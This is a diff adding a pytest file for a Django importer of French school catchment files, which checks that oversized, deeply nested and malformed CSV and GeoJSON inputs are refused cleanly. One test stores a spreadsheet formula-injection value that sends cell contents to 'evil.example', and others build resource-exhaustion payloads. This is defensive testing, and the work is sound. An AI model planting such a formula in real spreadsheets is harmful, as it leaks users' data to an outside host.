@@ -1,0 +1,185 @@
+"""Carte scolaire files written to hurt: rows repeated by the thousand, numbers of thousands of digits,
+GeoJSON nested beyond any geometry, codes in other scripts' digits. Each is refused (or imported) with a
+clean report, in a time linear in its rows, and changes nothing when refused.
+"""
+
+import gc
+import json
+import time
+
+import pytest
+
+from mon_enfant.catchment import service
+from mon_enfant.catchment.importers import SIMPLE_COLUMNS, import_catchment
+from mon_enfant.catchment.models import CatchmentImport, CatchmentRule
+from mon_enfant.csvfiles import ImportFileError
+from mon_enfant.models import Commune
+
+from ..conftest import TEST_DATA
+
+pytestmark = pytest.mark.django_db
+
+NATIONAL = TEST_DATA / "carte-scolaire-colleges-35-extrait.csv"
+SIMPLE_HEADER = ";".join(SIMPLE_COLUMNS)
+CHARCOT, CHATEAUBRIAND = "0350896J", "0350044H"
+
+
+@pytest.fixture(autouse=True)
+def fresh_index():
+    service.reset()
+    yield
+    service.reset()
+
+
+def simple(*rows):
+    lines = [SIMPLE_HEADER]
+    for row in rows:
+        lines.append(";".join(str(row.get(name, "")) for name in SIMPLE_COLUMNS))
+    return ("\n".join(lines) + "\n").encode("utf-8")
+
+
+def repeated_rule(index):
+    """The same street, the same whole range, two schools in turn: every pair of rows overlaps."""
+    return {"code_insee": "35288", "niveau": "elementaire", "voie": "Rue du Moulin", "parite": "tous",
+            "du": "1", "au": "99", "uai": CHARCOT if index % 2 else CHATEAUBRIAND}
+
+
+def best_time(data, repeat=3):
+    """The best CPU time of this process over a few runs, without garbage collector pauses: other processes
+    of a busy machine then hardly move it (a wall-clock ratio did)."""
+    best = None
+    gc.disable()
+    try:
+        for _ in range(repeat):
+            start = time.process_time()
+            import_catchment(data, dry_run=True)
+            elapsed = time.process_time() - start
+            best = elapsed if best is None else min(best, elapsed)
+    finally:
+        gc.enable()
+    return best
+
+
+def test_a_file_of_repeated_rules_imports_in_time_linear_in_its_rows(commune_a):
+    rows = 1500
+    small = simple(*(repeated_rule(index) for index in range(rows)))
+    large = simple(*(repeated_rule(index) for index in range(2 * rows)))
+    best_time(small, repeat=1)  # warm-up: translations, querysets
+    ratio = best_time(large) / best_time(small)
+    assert ratio < 3, f"twice the rows took {ratio:.1f} times as long"
+
+
+def test_the_report_lists_a_bounded_number_of_overlaps_and_counts_them_all(commune_a):
+    rows = 400
+    report = import_catchment(simple(*(repeated_rule(index) for index in range(rows))), dry_run=True)
+    (scope,) = report.scopes
+    pairs = rows * (rows - 1) // 2
+    same_school = 2 * ((rows // 2) * (rows // 2 - 1) // 2)
+    assert report.duplicate_count == same_school
+    assert report.shared_sector_count == pairs - same_school
+    assert report.conflict_count == 0
+    assert 0 < len(scope.shared_sectors) <= 100
+    assert len(scope.duplicates) <= 100
+    assert "Chevauchements : 0 conflits, 40000 secteurs partagés, 39800 doublons." in report.summary_lines()
+
+
+def test_a_file_longer_than_the_row_limit_is_refused_before_anything_is_checked(commune_a, settings):
+    settings.MON_ENFANT_IMPORT_MAX_ROWS = 10
+    with pytest.raises(ImportFileError) as refused:
+        import_catchment(simple(*(repeated_rule(index) for index in range(11))))
+    assert [str(error) for error in refused.value.errors] == [
+        "Le fichier compte plus de 10 lignes, le maximum accepté (réglage MON_ENFANT_IMPORT_MAX_ROWS) : "
+        "découpez-le, par exemple une commune par fichier."
+    ]
+    assert not CatchmentRule.objects.exists()
+    import_catchment(simple(*(repeated_rule(index) for index in range(10))))
+    assert CatchmentRule.objects.count() == 10
+
+
+def test_a_geojson_with_more_features_than_the_row_limit_is_refused(commune_a, settings):
+    settings.MON_ENFANT_IMPORT_MAX_ROWS = 2
+    square = {"type": "Polygon", "coordinates": [[[-2.03, 48.64], [-2.0, 48.64], [-2.0, 48.66], [-2.03, 48.64]]]}
+    feature = {"type": "Feature", "geometry": square,
+               "properties": {"code_insee": "35288", "niveau": "maternelle", "uai": CHARCOT}}
+    data = json.dumps({"type": "FeatureCollection", "features": [feature] * 3}).encode()
+    with pytest.raises(ImportFileError, match="plus de 2 lignes"):
+        import_catchment(data)
+
+
+HUGE = "9" * 5000
+
+
+@pytest.mark.parametrize("column", ["no_de_voie_debut", "no_de_voie_fin"])
+def test_a_national_house_number_of_thousands_of_digits_is_refused_with_its_line(commune_a, column):
+    lines = NATIONAL.read_bytes().decode("utf-8-sig").split("\r\n")
+    header = lines[0].split(";")
+    index = [name.lower() for name in header].index(column)
+    cells = lines[1].split(";")
+    cells[index] = HUGE
+    data = "\r\n".join([lines[0], ";".join(cells)]).encode()
+    with pytest.raises(ImportFileError) as refused:
+        import_catchment(data, create_communes=True)
+    (error,) = refused.value.errors
+    assert error.line == 2
+    assert "hors limites (99999 au plus)" in str(error)
+    assert len(str(error)) < 200
+
+
+@pytest.mark.parametrize("column", ["du", "au"])
+def test_a_simple_house_number_of_thousands_of_digits_is_refused_with_its_line(commune_a, column):
+    with pytest.raises(ImportFileError) as refused:
+        import_catchment(simple({**repeated_rule(0), column: HUGE}))
+    (error,) = refused.value.errors
+    assert error.line == 2
+    assert "hors limites (99999 au plus)" in str(error)
+    assert len(str(error)) < 200
+
+
+def test_a_priority_of_thousands_of_digits_is_refused_with_its_line(commune_a):
+    with pytest.raises(ImportFileError) as refused:
+        import_catchment(simple({**repeated_rule(0), "priorite": HUGE}))
+    (error,) = refused.value.errors
+    assert error.line == 2
+    assert "priorité" in str(error)
+
+
+def test_a_geojson_nested_deeper_than_any_geometry_is_refused(commune_a):
+    data = b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    with pytest.raises(ImportFileError) as refused:
+        import_catchment(data)
+    (error,) = refused.value.errors
+    assert "imbriqu" in str(error)
+
+
+def test_a_geojson_priority_of_thousands_of_digits_is_refused(commune_a):
+    square = {"type": "Polygon", "coordinates": [[[-2.03, 48.64], [-2.0, 48.64], [-2.0, 48.66], [-2.03, 48.64]]]}
+    feature = {"type": "Feature", "geometry": square,
+               "properties": {"code_insee": "35288", "niveau": "maternelle", "uai": CHARCOT, "priorite": HUGE}}
+    data = json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()
+    with pytest.raises(ImportFileError, match="priorité"):
+        import_catchment(data)
+
+
+@pytest.mark.parametrize("code", ["3528\u0668", "\u0663\u0665288", "３５２８８"])
+def test_an_insee_code_written_with_non_ascii_digits_is_refused(code):
+    with pytest.raises(ImportFileError) as refused:
+        import_catchment(simple({**repeated_rule(0), "code_insee": code}), create_communes=True)
+    assert refused.value.errors[0].line == 2
+    assert not Commune.objects.exists()
+
+
+def test_a_name_that_looks_like_a_formula_is_kept_as_typed(commune_a):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
+    import_catchment(simple({**repeated_rule(0), "voie": "Rue du Moulin", "remarque": formula}))
+    assert CatchmentRule.objects.get().note == formula
+
+
+def test_each_scope_record_keeps_a_bounded_copy_of_the_file_report(settings):
+    """A file of thousands of communes makes thousands of records: each one must not list every commune."""
+    communes = [f"35{index:03d}" for index in range(1, 601)]
+    rows = [{**repeated_rule(0), "code_insee": code, "commune": f"Commune {code}"} for code in communes]
+    import_catchment(simple(*rows), create_communes=True)
+    record = CatchmentImport.objects.get(commune__code_insee="35288")
+    assert record.report["file"]["commune_count"] == 600
+    assert len(record.report["file"]["communes"]) == 500
+    assert len(record.report["file"]["communes_created"]) == 500
